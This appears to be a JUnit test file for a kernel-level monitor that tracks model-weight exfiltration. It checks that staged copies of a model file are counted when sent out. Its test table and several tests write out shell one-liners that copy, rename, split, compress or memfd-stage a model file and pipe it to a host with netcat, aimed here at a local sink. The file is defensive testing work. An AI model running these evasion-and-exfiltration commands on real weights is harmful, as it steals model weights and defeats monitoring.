// SPDX-License-Identifier: Apache-2.0
package io.modelwarden.kernel;

import static io.modelwarden.coverage.Bytes.BOUNDED;
import static io.modelwarden.coverage.Bytes.EXACT;
import static io.modelwarden.coverage.Hook.SOCK_SEND_LENGTH;
import static io.modelwarden.coverage.Hook.SYS_EXIT;
import static io.modelwarden.coverage.Hook.URING_COMPLETE;
import static io.modelwarden.coverage.Kind.TRAIL;
import static org.assertj.core.api.Assertions.assertThat;

import io.modelwarden.coverage.Way;
import io.modelwarden.event.FileFacts;
import io.modelwarden.event.FileFacts.Verdict;
import io.modelwarden.event.KernelEvent.Channel;
import io.modelwarden.event.KernelEvent.DataMoved;
import io.modelwarden.event.KernelEvent.Direction;
import io.modelwarden.event.KernelEvent.FileAccessed;
import io.modelwarden.event.KernelEvent.ProcessSeen;
import io.modelwarden.event.ProcessFacts.Origin;
import io.modelwarden.event.ProcessKey;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Who reads a file to which the reader of a model wrote is armed, whatever its name is by then. */
@Tag("kernel")
class StagedCopyTest {

  private static final long MODEL_BYTES = 4_000_000;
  private static final long LARGE_BYTES = 70_000_000;
  private static final int STAGED_BYTES = 64 << 10;

  /** Of which half in a window is what the kernel waits for. */
  private static final int SERVER_SHARE = 200_000;

  private static final String STAGE =
      "/usr/bin/python3 " + Acts.REPOSITORY + "/exporter/src/test/python/stage_copy.py";

  @TempDir static Path folder;
  private static Observed observed;
  private static Path model;
  private static Path large;
  private static int copies;

  @BeforeAll
  static void attach() {
    observed = new Observed();
    model = folder.resolve("weights.safetensors");
    large = folder.resolve("large.safetensors");
    Acts.run("make_model", model, MODEL_BYTES);
    Acts.run("make_model", large, LARGE_BYTES);
  }

  @AfterAll
  static void detach() {
    observed.close();
  }

  @ParameterizedTest(name = "{0}")
  @CsvSource(
      delimiterString = " // ",
      quoteCharacter = '`',
      textBlock =
          """
          a copy                           // cp MODEL COPY; nc.openbsd -N HOST PORT <COPY
          an archive that is renamed       // tar -cPf COPY MODEL; mv COPY COPY.jpg; nc.openbsd -N HOST PORT <COPY.jpg
          a compressed copy                // gzip -1c MODEL >COPY; nc.openbsd -N HOST PORT <COPY
          a link to it                     // cat MODEL >COPY; ln COPY COPY.b; rm COPY; nc.openbsd -N HOST PORT <COPY.b
          one write of all                 // dd if=MODEL of=COPY bs=4000000 status=none; nc.openbsd -N HOST PORT <COPY
          pieces by a process each         // for i in 0 1 2 3 4 5 6 7; do dd if=MODEL of=COPY bs=500000 count=1 skip=$i seek=$i conv=notrunc status=none; done; nc.openbsd -N HOST PORT <COPY
          a file for each piece            // split -b 100000 MODEL COPY.; cat COPY.* | nc.openbsd -N HOST PORT
          a copy of the copy               // cp MODEL COPY; cp COPY COPY.b; rm COPY; nc.openbsd -N HOST PORT <COPY.b
          a file in memory                 // cat MODEL >/dev/shm/COPYNAME; nc.openbsd -N HOST PORT </dev/shm/COPYNAME; rm /dev/shm/COPYNAME
          pwrite                           // STAGE write pwrite MODEL COPY; STAGE send pread COPY HOST PORT
          writev                           // STAGE write writev MODEL COPY; STAGE send read COPY HOST PORT
          sendfile into and out of it      // STAGE write sendfile MODEL COPY; STAGE send sendfile COPY HOST PORT
          splice into and out of it        // STAGE write splice MODEL COPY; STAGE send splice COPY HOST PORT
          copy_file_range                  // STAGE write copy_file_range MODEL COPY; STAGE send sendfile COPY HOST PORT
          a mapping of it                  // cat MODEL >COPY; STAGE send mmap COPY HOST PORT
          a passed file without a name     // STAGE memfd MODEL HOST PORT
          io_uring into and out of it      // URING MODEL COPY 65536; URING COPY COPY.b 65536; rm COPY; nc.openbsd -N HOST PORT <COPY.b
          """)
  @Way(
      value = "a copy on disk or in memory, in pieces, renamed, linked, copied again",
      of = TRAIL,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = {"copy", "archive", "link", "write", "pieces", "piece", "memory"},
      note = "files of 128 KiB and more, 1 MiB of them together")
  @Way(
      value = "a copy by pwrite, writev, sendfile, splice or copy_file_range",
      of = TRAIL,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = {"pwrite", "writev", "sendfile", "splice", "copy_file_range"})
  @Way(
      value = "a copy that its reader maps",
      of = TRAIL,
      bytes = BOUNDED,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "mapping",
      note = "what it sends to the byte, what it has by the mapped length")
  @Way(
      value = "a memfd that is passed to another process",
      of = TRAIL,
      bytes = EXACT,
      by = {SYS_EXIT, SOCK_SEND_LENGTH},
      when = "name")
  @Way(
      value = "a copy by io_uring, copied again by io_uring",
      of = TRAIL,
      bytes = EXACT,
      by = {URING_COMPLETE, SOCK_SEND_LENGTH},
      when = "io_uring")
  void stagedModel_isCountedToTheByteWhereItLeaves(String way, String script) throws Exception {
    long received;
    int port;
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      port = (int) sink.number("port");
      run(script, port);
      observed.settle();
      received = Long.parseLong(sink.goOn().get("bytes"));
    }
    if (way.contains("archive") || way.contains("compressed")) {
      assertThat(received).isGreaterThan(MODEL_BYTES / 2);
    } else {
      assertThat(received).isEqualTo(MODEL_BYTES);
    }
    assertThat(observed.bytesSentTo(port)).isEqualTo(received);
    ProcessKey sender = observed.sentTo(port).get(0).process();
    assertThat(observed.of(ProcessSeen.class, seen -> seen.process().key().sameProcess(sender)))
        .anyMatch(seen -> seen.process().origin() == Origin.PASSED);
    assertThat(observed.moved(sender, Direction.READ, channelOf(script))).isEqualTo(received);
  }

  /** What is read before anybody has looked is told by file, the rest by channel: none is lost. */
  @Test
  void largeCopy_whichIsLookedAtFirst_isCountedToTheByteTooAndHasOneNumber() throws Exception {
    int port;
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      port = (int) sink.number("port");
      run("tar -cPf COPY " + large + "; nc.openbsd -N HOST PORT <COPY", port);
      observed.settle();
    }
    ProcessKey sender = observed.sentTo(port).get(0).process();
    long copy = observed.bytesSentTo(port);
    assertThat(copy).isGreaterThan(LARGE_BYTES);
    long undecided =
        observed
            .of(FileAccessed.class, read -> read.process().equals(sender))
            .mapToLong(read -> read.increment().bytes())
            .sum();
    assertThat(undecided + observed.moved(sender, Direction.READ, Channel.FILE)).isEqualTo(copy);
    FileFacts file =
        observed
            .of(
                FileAccessed.class,
                write ->
                    write.path().equals(copyNumber(copies).toString())
                        && write.direction() == Direction.WRITE)
            .map(write -> observed.file(write.fileId()))
            .findFirst()
            .orElseThrow();
    assertThat(file.verdict()).isEqualTo(Verdict.ORDINARY);
    assertThat(
            observed.of(
                DataMoved.class,
                moved ->
                    moved.kind() == Channel.FILE
                        && moved.direction() == Direction.WRITE
                        && moved.channel() == file.channel()))
        .isNotEmpty();
  }

  @Test
  void modelUnderAnotherName_isNoStagedCopy() throws Exception {
    run("cp MODEL COPY.safetensors; cat COPY.safetensors >/dev/null", 1);
    observed.settle();
    assertThat(
            observed.of(
                FileAccessed.class,
                read ->
                    read.direction() == Direction.READ
                        && read.path().equals(copyNumber(copies) + ".safetensors")))
        .isNotEmpty()
        .allMatch(read -> observed.moved(read.process(), Direction.READ, Channel.FILE) == 0);
  }

  @Test
  void logToWhichAHolderAdds_armsNobodyWhoReadsIt() throws Exception {
    Path log = folder.resolve("log");
    Files.write(log, new byte[1_000_000]);
    try (Acts.Running sink = Acts.start("sink", "tcp", "127.0.0.1", 0)) {
      int port = (int) sink.number("port");
      run(
          "perl -e 'open F, q(MODEL); read F, $_, 4e6; open L, q(>>LOG); print L q(x) x %d'"
                  .formatted(STAGED_BYTES - 1)
                  .replace("LOG", log.toString())
              + "; nc.openbsd -N HOST PORT <"
              + log,
          port);
      observed.settle();
      assertThat(sink.goOn()).containsEntry("bytes", String.valueOf(1_000_000 + STAGED_BYTES - 1));
      assertThat(observed.bytesSentTo(port)).isZero();
    }
  }

  @Test
  void logOfAServer_armsNobody_untilAShareOfTheModelIsInIt() throws Exception {
    assertThat(readerOfLog(SERVER_SHARE / 2 - 1)).isZero();
    assertThat(readerOfLog(SERVER_SHARE)).isEqualTo(SERVER_SHARE);
  }

  /** What a program was told to have read of a file that a container's own process wrote. */
  private static long readerOfLog(int bytes) throws IOException, InterruptedException {
    Path log = folder.resolve("server" + bytes);
    String script = "open F, '<', '%s'; read F, $_, 4e6; open L, '>', '%s'; print L 'x' x %d";
    Container.print("/usr/bin/perl", "-e", script.formatted(model, log, bytes));
    assertThat(log).hasSize(bytes);
    Process reader =
        new ProcessBuilder("cat", log.toString())
            .redirectOutput(ProcessBuilder.Redirect.DISCARD)
            .start();
    assertThat(reader.waitFor(20, TimeUnit.SECONDS)).isTrue();
    observed.settle();
    return observed
        .of(
            DataMoved.class,
            moved -> moved.process().pid() == reader.pid() && moved.direction() == Direction.READ)
        .mapToLong(moved -> moved.increment().bytes())
        .sum();
  }

  /** The one that sends reads pieces through a pipe. */
  private static Channel channelOf(String script) {
    return script.contains("| nc") ? Channel.PIPE : Channel.FILE;
  }

  private static Path copyNumber(int number) {
    return folder.resolve("copy" + number);
  }

  private static void run(String script, int port) throws IOException, InterruptedException {
    Path copy = copyNumber(++copies);
    Process shell =
        new ProcessBuilder(
                "bash",
                "-c",
                script
                    .replace("MODEL", model.toString())
                    .replace("STAGE", STAGE)
                    .replace("URING", Acts.path("uring_copy").toString())
                    .replace("COPYNAME", "modelwarden-" + folder.getFileName() + copies)
                    .replace("COPY", copy.toString())
                    .replace("HOST", "127.0.0.1")
                    .replace("PORT", String.valueOf(port)))
            .inheritIO()
            .start();
    assertThat(shell.waitFor(20, TimeUnit.SECONDS)).isTrue();
    assertThat(shell.exitValue()).isZero();
  }
}
